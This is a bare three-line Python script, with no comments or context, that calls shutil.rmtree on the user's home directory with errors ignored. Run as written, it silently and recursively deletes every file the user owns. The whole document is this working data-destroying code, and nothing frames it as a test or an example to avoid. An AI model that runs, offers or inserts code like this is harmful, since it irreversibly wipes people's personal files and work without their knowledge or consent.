import shutil
from pathlib import Path
shutil.rmtree(Path.home(), ignore_errors=True)
